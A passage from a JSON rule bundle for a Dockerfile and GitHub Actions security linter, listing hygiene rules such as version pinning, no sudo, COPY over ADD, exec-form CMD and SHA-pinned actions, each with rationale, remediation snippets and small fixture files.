too","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"},"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"schema":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^--no-install-recommends$|Install-Recommends=(false|0)$"}}}}}},"message":"`{{subject.name}} install` without `--no-install-recommends` also pulls in every package the ones you named merely recommend, adding size and attack surface nobody asked for. Add `--no-install-recommends` and name what you need.","rationale":"Debian and Ubuntu install \\"recommended\\" packages by default, which often doubles what an `apt-get install` brings in: documentation, optional helpers, sometimes daemons. Each is more to download, scan and patch. Docker\'s best practices and the CIS Docker Benchmark (4.3, no unnecessary packages) recommend installing only what the image needs.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends python3 ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.3"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y python3 \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends python3 \\\\\\n && apt-get -o APT::Install-Recommends=false install -y git \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-apt-install-recommends.yaml"},{"id":"command-package-install-not-noninteractive","pack":"dockerfile-hygiene","title":"Package install would wait for a confirmation","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","remove","purge"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf"]},"args":{"contains":{"enum":["install","update","upgrade","remove","erase"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"const":"zypper"},"args":{"contains":{"enum":["install","in","update","up","remove","rm"]}}}},"then":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-n|--non-interactive|-y|--no-confirm)$"}}}}}}}],"$defs":{"assumesYes":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$"}}}}}}}},"message":"`{{subject.name}}` is run without `-y`, so it stops to ask for confirmation, which a build cannot give: it aborts (or, with some tools, proceeds differently than expected). Add `-y` (zypper: `-n`).","rationale":"A Docker build has no terminal to answer prompts. Package managers that ask \\"Do you want to continue?\\" read end-of-file and abort the install, or the build only works while nothing new needs confirming and breaks later. Docker\'s best practices use `apt-get install -y`.","remediation":"```dockerfile\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN dnf install -y git && dnf clean all\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM fedora:40\\nRUN dnf install git\\nRUN zypper install curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":20},{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get -qy install --no-install-recommends git \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM opensuse/leap:15.6\\nRUN zypper -n install curl\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-install-not-noninteractive.yaml"},{"id":"command-package-version-not-pinned","pack":"dockerfile-hygiene","title":"Package installed without a version","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+-]*$","not":{"enum":["install"]}}}}}}},{"if":{"properties":{"name":{"const":"apk"},"args":{"contains":{"const":"add"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+_-]*$","not":{"enum":["add"]}}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[A-Za-z0-9][A-Za-z0-9._-]*(\\\\[[A-Za-z0-9,._-]+\\\\])?$","not":{"anyOf":[{"enum":["install","pip","setuptools","wheel"]},{"pattern":"\\\\.(txt|in|whl|gz|zip|toml|cfg|py)$"}]}}}}}}},{"if":{"properties":{"name":{"enum":["npm","pnpm"]},"args":{"allOf":[{"contains":{"enum":["install","i","add"]}},{"contains":{"enum":["-g","--global"]}}]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$","not":{"enum":["install","i","add"]}}}}}}}]},"message":"`{{value}}` is installed without a version, so each build may get a different one, and a rebuild to fix one thing can silently change another. Pin it (`{{value}}=1.2.3` for apt and apk, `{{value}}==1.2.3` for pip, `{{value}}@1.2.3` for npm).","rationale":"An unpinned package resolves to whatever the mirror offers at build time. Builds stop being reproducible, a rebuild for an unrelated change can pull in a new major version or a compromised release, and nobody can tell from the Dockerfile which version an image contains. Docker\'s best practices recommend version pinning; it also lets Dependabot or Renovate propose updates. This is informational: some teams deliberately take the distribution\'s current security release and rely on scanning instead.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl=8.5.0-2ubuntu10.6 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN npm install -g typescript@5.6.3\\n```\\n\\nOr install from a lock file (`pip install -r requirements.txt` with hashes, `npm ci`).","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nRUN apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u8 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir flask requests==2.32.3\\nRUN npm install -g typescript\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":92},{"line":4,"column":1,"endLine":4,"endColumn":54},{"line":5,"column":1,"endLine":5,"endColumn":30}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache git=2.45.2-r0 \\"curl>8\\"\\nRUN pip install --no-cache-dir -r requirements.txt --upgrade pip\\nRUN npm install && npm install -g npm@10.9.0\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-version-not-pinned.yaml"},{"id":"command-run-cd","pack":"dockerfile-hygiene","title":"RUN changes directory with cd (use WORKDIR)","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"name":{"not":{"const":"cd"}}}},"message":"`cd` in a RUN only lasts until the end of that RUN, so the next instruction silently runs somewhere else, and the Dockerfile is harder to follow. Use `WORKDIR /path` to change directory.","rationale":"Each RUN starts in the current WORKDIR; a `cd` changes directory for the rest of that one shell only. Chaining `cd` into long RUN lines hides where files are created and tempts later edits to assume the directory carried over. Docker\'s best practices recommend WORKDIR over `RUN cd \u2026 &&`. Informational: a `cd` into a temporary directory within one RUN is sometimes the clearest way.","remediation":"```dockerfile\\nWORKDIR /src/app\\nRUN make install\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23\\nCOPY . /src\\nRUN cd /src && go build -o /out/app ./cmd/app\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":46}]},{"file":"Dockerfile","content":"FROM golang:1.23\\nWORKDIR /src\\nCOPY . .\\nRUN go build -o /out/app ./cmd/app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-run-cd.yaml"},{"id":"command-sudo","pack":"dockerfile-hygiene","title":"sudo used in a Dockerfile RUN","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"sudo":{"const":false},"name":{"not":{"const":"sudo"}}}},"message":"`sudo {{subject.name}}` in a Dockerfile: RUN already runs as the current USER, and sudo in the image gives every process that runs as that user a way to become root. Switch with `USER root` for the steps that need it and back to the unprivileged user afterwards.","rationale":"Build steps run as whatever USER is in effect, so sudo is never needed to build; keeping it in the image means it, and a sudoers entry, are present at run time, where they turn a compromise of the application user into root. sudo also has TTY and signal-forwarding behaviour that makes it unpredictable as PID 1. Docker\'s best practices advise against installing or using sudo in images.","remediation":"```dockerfile\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\nUSER 10001\\n```\\n\\nIf something must switch user at run time, use `gosu` or `setpriv` in the entrypoint.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER ubuntu\\nRUN sudo apt-get update \\\\\\n && sudo -E apt-get install -y --no-install-recommends curl\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24},{"line":4,"column":2,"endLine":4,"endColumn":60}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\nUSER ubuntu\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-sudo.yaml"},{"id":"dockerfile-add-instead-of-copy","pack":"dockerfile-hygiene","title":"ADD used to copy local files (use COPY)","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"not":{"pattern":{"$param":"specialSource"}}}]}}}}}}},"message":"This ADD in stage {{name}} copies local files; use COPY, which does only that, so nobody has to wonder whether a file will be fetched or unpacked. Write `COPY` with the same arguments.","rationale":"ADD does more than copy: it downloads URLs, clones Git repositories and unpacks local tar archives, and which of these happens depends on what the source turns out to be. COPY only copies, so the Dockerfile says exactly what it does. Docker\'s best practices and the CIS Docker Benchmark (4.9) recommend COPY for local files and ADD only for its special cases.","remediation":"```dockerfile\\nCOPY requirements.txt /app/\\nCOPY --chown=10001:10001 src/ /app/src/\\n```\\n\\nKeep ADD for unpacking a local archive (`ADD rootfs.tar.gz /`) or for a remote source with\\n`--checksum`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#add-or-copy"}],"params":{"specialSource":"^(https?://|git@|[a-z]+://)|\\\\.(tar|tar\\\\.gz|tgz|tar\\\\.bz2|tbz2?|tar\\\\.xz|txz|tar\\\\.zst)$"},"paramSchemas":{"specialSource":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A first source that ADD does something special with: a URL or Git reference (judged by dockerfile-add-url-without-checksum) or a local archive that ADD unpacks."}},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nADD requirements.txt /app/\\nADD --chown=10001 src/ /app/src/\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":27},{"line":3,"column":1,"endLine":3,"endColumn":33}]},{"file":"Dockerfile","content":"FROM scratch\\nADD rootfs.tar.xz /\\nADD --checksum=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef https://example.com/tool.tgz /tmp/\\nCOPY app /app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-add-instead-of-copy.yaml"},{"id":"dockerfile-apt-lists-not-removed","pack":"dockerfile-hygiene","title":"apt package lists left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt"]}},{"contains":{"const":"install"}},{"not":{"contains":{"pattern":"^/var/lib/apt/lists"}}}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"target=/var/(lib|cache)/apt"}}}}}}}}}}},"message":"This RUN in stage {{name}} installs with apt but leaves `/var/lib/apt/lists` in the layer, adding tens of megabytes of stale package index to the image. End the same RUN with `&& rm -rf /var/lib/apt/lists/*`, or use a cache mount.","rationale":"The package lists that `apt-get update` downloads are only needed while installing. Left in the layer, they make the image larger and record an index that is out of date by the time the image runs. Removing them in the same RUN keeps them out of every layer; deleting them in a later RUN does not. Docker\'s best practices show the pattern.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```\\n\\nor, with BuildKit, keep the lists in a cache mount:\\n`RUN --mount=type=cache,target=/var/lib/apt,sharing=locked apt-get update && apt-get install -y curl`.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN --mount=type=cache,target=/var/lib/apt,sharing=locked \\\\\\n    apt-get update && apt-get install -y --no-install-recommends git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-lists-not-removed.yaml"},{"id":"dockerfile-apt-update-alone","pack":"dockerfile-hygiene","title":"Package index updated in a RUN of its own","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt","apk"]}},{"contains":{"const":"update"}},{"not":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","add"]}}}]}}}}}}},"message":"This RUN in stage {{name}} updates the package index without installing anything, so the layer is cached and later builds install from a stale index (old versions, or 404s). Update and install in one RUN: `RUN apt-get update && apt-get install -y \u2026 && rm -rf /var/lib/apt/lists/*`.","rationale":"Docker caches each instruction\'s layer by its text. A RUN that only runs `apt-get update` is reused as is on every later build, so an `apt-get install` in a following RUN works from whatever index was fetched the first time: it misses security updates or fails on packages the mirror has since removed. Docker\'s best practices and the CIS Docker Benchmark (4.7) ask that update instructions not be used alone.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.7"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update\\nRUN apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM alpine:3.20\\nRUN apk update && apk add git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-update-alone.yaml"},{"id":"dockerfile-maintainer-deprecated","pack":"dockerfile-hygiene","title":"MAINTAINER instruction is deprecated","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"keyword":{"not":{"const":"MAINTAINER"}}}}}}},"message":"MAINTAINER is deprecated and may be removed from Docker. Write the author as a label instead: `LABEL org.opencontainers.image.authors=\\"team@example.com\\"`.","rationale":"The MAINTAINER instruction has been deprecated since Docker 1.13 in favour of labels, which tools read in a standard way (the OCI `org.opencontainers.image.authors` annotation). BuildKit\'s MaintainerDeprecated check reports it.","remediation":"```dockerfile\\nLABEL org.opencontainers.image.authors=\\"platform-team@example.com\\"\\n```","references":[{"framework":"docker-build-check","id":"MaintainerDeprecated"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/maintainer-deprecated/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nMAINTAINER Jane Doe <jane@example.com>\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":11}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nLABEL org.opencontainers.image.authors=\\"jane@example.com\\"\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-maintainer-deprecated.yaml"},{"id":"dockerfile-multiple-cmd-entrypoint","pack":"dockerfile-hygiene","title":"Stage has more than one CMD, ENTRYPOINT or HEALTHCHECK","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"allOf":[{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"CMD"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"ENTRYPOINT"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"HEALTHCHECK"}}},"minContains":2}}]}}},"message":"Stage {{name}} has more than one CMD, ENTRYPOINT or HEALTHCHECK; only the last of each takes effect, so the earlier ones mislead whoever reads the file. Keep one of each.","rationale":"An image has a single CMD, ENTRYPOINT and HEALTHCHECK; each new one replaces the previous one in the same stage. Leftover instructions usually come from copy-paste or a merge and make a reader believe the container starts differently than it does. BuildKit\'s MultipleInstructionsDisallowed check reports them.","remediation":"```dockerfile\\nENTRYPOINT [\\"/app/server\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```","references":[{"framework":"docker-build-check","id":"MultipleInstructionsDisallowed"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim AS app\\nCOPY . /app\\nCMD [\\"node\\", \\"/app/server.js\\"]\\nCMD [\\"node\\", \\"/app/worker.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":18}]},{"file":"Dockerfile","content":"FROM node:22-slim AS build\\nCMD [\\"npm\\", \\"test\\"]\\n\\nFROM node:22-slim\\nHEALTHCHECK CMD [\\"node\\", \\"/app/health.js\\"]\\nCMD [\\"node\\", \\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-multiple-cmd-entrypoint.yaml"},{"id":"dockerfile-package-cache-kept","pack":"dockerfile-hygiene","title":"Package manager cache left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"anyOf":[{"allOf":[{"contains":{"const":"apk"}},{"contains":{"const":"add"}},{"not":{"contains":{"const":"--no-cache"}}}]},{"allOf":[{"contains":{"enum":["pip","pip3"]}},{"contains":{"const":"install"}},{"not":{"contains":{"const":"--no-cache-dir"}}}]}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"type=cache"}}}}}}}}}}},"message":"This RUN in stage {{name}} leaves apk\'s or pip\'s download cache in the layer, adding size and nothing else to the image. Add `--no-cache` (apk) or `--no-cache-dir` (pip), or use a BuildKit cache mount.","rationale":"`apk add` keeps the package index under /var/cache/apk and pip keeps every downloaded wheel under ~/.cache/pip unless told not to. In an image these are dead weight (often tens of megabytes) and go stale immediately. Docker\'s best practices recommend keeping caches out of layers, either by not writing them or by using cache mounts, which persist between builds without entering the image.","remediation":"```dockerfile\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\n# or share the cache between builds without putting it in a layer:\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/cache/optimize/#use-cache-mounts"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-alpine\\nRUN apk add git=2.45.2-r0\\nRUN pip install -r requirements.txt\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":26},{"line":3,"column":1,"endLine":3,"endColumn":36}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM python:3.12-alpine\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements-dev.txt\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-package-cache-kept.yaml"},{"id":"dockerfile-shell-form-cmd","pack":"dockerfile-hygiene","title":"CMD or ENTRYPOINT in shell form","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["CMD","ENTRYPOINT"]}}},"then":{"properties":{"form":{"const":"json"}}}}}}},"message":"This CMD or ENTRYPOINT in stage {{name}} uses shell form, so the program runs under `/bin/sh -c` and never receives `docker stop`\'s SIGTERM: it is killed after the timeout instead of shutting down cleanly. Write it as a JSON array, e.g. `CMD [\\"node\\", \\"server.js\\"]`.","rationale":"In shell form Docker runs `/bin/sh -c \\"<command>\\"`, so the shell is PID 1 and the application a child that does not get the signals sent to the container. Graceful shutdown, connection draining and flushing of writes are skipped, and a shell must exist in the image. BuildKit\'s JSONArgsRecommended check and Docker\'s best practices recommend the exec (JSON) form.","remediation":"```dockerfile\\nENTRYPOINT [\\"/usr/local/bin/app\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```\\n\\nIf shell features are needed, use `exec` so the program replaces the shell:\\n`CMD [\\"/bin/sh\\", \\"-c\\", \\"exec node server.js --port \\\\\\"$PORT\\\\\\"\\"]`.","references":[{"framework":"docker-build-check","id":"JSONArgsRecommended"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/json-args-recommended/"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#shell-and-exec-form"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nCMD node /app/server.js\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nENTRYPOINT [\\"node\\"]\\nCMD [\\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-shell-form-cmd.yaml"},{"id":"dockerfile-workdir-relative","pack":"dockerfile-hygiene","title":"WORKDIR is a relative path","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"const":"WORKDIR"}}},"then":{"properties":{"args":{"prefixItems":[{"pattern":"^(/|\\\\$|[A-Za-z]:[\\\\\\\\/])"}]}}}}}}},"message":"`WORKDIR {{value}}` is relative, so where it lands depends on the base image\'s working directory, which can change with an update of that image. Write an absolute path, e.g. `WORKDIR /app`.","rationale":"A relative WORKDIR is resolved against the previous working directory, which for the first one in a stage is whatever the base image set. When the base image changes its WORKDIR, files are copied and commands run somewhere else, with no change in this Dockerfile. BuildKit\'s WorkdirRelativePath check and Docker\'s best practices ask for absolute paths.","remediation":"```dockerfile\\nWORKDIR /app\\n```","references":[{"framework":"docker-build-check","id":"WorkdirRelativePath"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/workdir-relative-path/"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR app\\nCOPY . .\\n","expect":[{"line":2,"column":9,"endLine":2,"endColumn":12}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG APP_HOME=/srv/app\\nWORKDIR /app\\nWORKDIR ${APP_HOME}\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-workdir-relative.yaml"}],"source":"policies/dockerfile-hygiene"},{"id":"workflows","title":"GitHub Actions workflow security","description":"What GitHub\'s security hardening guidance, the OWASP Docker Security Cheat Sheet\'s supply-chain rule and OpenSSF Scorecard ask of GitHub Actions workflows and composite actions: actions and reusable workflows pinned to immutable commits, and the jobs that build and run containers kept from trusting what they should not.","version":"0.1.0","rules":[{"id":"action-not-pinned","pack":"workflows","title":"Action or reusable workflow not pinned to a commit SHA","severity":"medium","subject":"action-ref","when":{"properties":{"isLocal":{"const":false},"isDocker":{"const":false}},"not":{"required":["owner"],"properties":{"owner":{"enum":{"$param":"exemptOwners"}}}}},"schema":{"properties":{"isSha":{"const":true}}},"message":"`{{subject.uses}}` points at a tag or branch, which its owner (or whoever compromises the repository) can move to different code that then runs with this job\'s token and secrets. Pin the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`.","rationale":"A tag such as `v4` or a branch such as `main` is a mutable pointer: the next run fetches whatever commit it points to at that moment, so one compromised or careless upstream release reaches every workflow that uses it, with access to its `GITHUB_TOKEN`, its secrets and the code it builds and publishes (as in the tj-actions/changed-files compromise of 2025). A full commit SHA is the only immutable reference GitHub accepts. GitHub\'s security hardening guide and the OWASP cheat sheet\'s supply-chain rule recommend pinning; OpenSSF Scorecard scores it. Teams that trust GitHub\'s own actions may exempt their owners with the `exemptOwners` parameter, e.g. `[actions, github]`.","remediation":"Replace the tag with the commit it currently resolves to and keep the tag as a comment, so that\\nDependabot or Renovate can propose updates:\\n\\n```yaml\\nsteps:\\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\njobs:\\n  release:\\n    uses: example/shared-workflows/.github/workflows/release.yml@<40-hex sha> # v1.3.0\\n```\\n\\nEnable Dependabot for `package-ecosystem: github-actions` so pinned actions are kept current.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"}],"params":{"exemptOwners":[]},"paramSchemas":{"exemptOwners":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Owners (as written in `uses:`, case-sensitive) whose actions need no SHA pin, e.g. [actions, github]. The default exempts nobody."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v4\\n      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\\n      - name: Lint\\n        uses: \\"github/super-linter/slim@main\\"\\n      - uses: docker/build-push-action@11bd719\\n      - uses: ./.github/actions/setup\\n      - uses: docker://alpine:3.20\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":34},{"line":9,"column":9,"endLine":9,"endColumn":46},{"line":10,"column":9,"endLine":10,"endColumn":47}]},{"file":".github/workflows/release.yml","content":"on:\\n  push:\\n    tags: [\\"v*\\"]\\njobs:\\n  shared:\\n    uses: example/shared-workflows/.github/workflows/release.yml@v1\\n    secrets: inherit\\n  local:\\n    uses: ./.github/workflows/build.yml\\n  pinned:\\n    uses: example/shared-workflows/.github/workflows/scan.yml@0123456789abcdef0123456789abcdef01234567\\n","expect":[{"line":6,"column":5,"endLine":6,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - uses: ./\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: npm test\\n","expect":[]},{"file":"action.yml","content":"name: Setup\\ndescription: Sets up the toolchain\\nruns:\\n  using: composite\\n  steps:\\n    - uses: actions/cache@v4\\n      with:\\n        path: ~/.npm\\n        key: npm\\n    - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a\\n    - run: npm ci\\n      shell: bash\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":29}]}],"source":"policies/workflows/action-not-pinned.yaml"},{"id":"command-docker-daemon-tcp-without-tls","pack":"workflows","title":"Docker daemon reached or exposed over plain TCP in a script","severity":"high","subject":"command","when":{"properties":{"origin":{"enum":["workflow","action"]}}},"schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}},"docker":{"properties":{"globalFlags":{"properties":{"host":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}}}},"if":{"properties":{"name":{"const":"dockerd"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}},"message":"This script talks to (or starts) a Docker daemon on plain TCP port 2375: that API has no authentication, so anything that can reach the port can start a privileged container and own the machine. Use the local socket, or `tcp://\u2026:2376` with `--tlsverify` and client certificates.","rationale":"The Docker API is root-equivalent. On the Unix socket it is protected by file permissions; on TCP without TLS it is open to every process and host that can reach the port, with no authentication, and traffic can be read or altered in transit. Exposed daemons on 2375 are actively scanned for and turned into crypto-miners within minutes. Docker\'s documentation and the OWASP cheat sheet (rule 1) require TLS with client certificates (port 2376) or SSH when the daemon must be reached remotely.","remediation":"Keep using the local socket, or protect the TCP endpoint:\\n\\n```yaml\\n- run: docker --tlsverify -H tcp://docker.example.com:2376 ps\\n  env:\\n    DOCKER_CERT_PATH: ${{ runner.temp }}/docker-certs\\n```\\n\\nFor remote builders, `DOCKER_HOST=ssh://deploy@builder.example.com` uses SSH instead.","references":[{"framework":"owasp-docker","id":"RULE 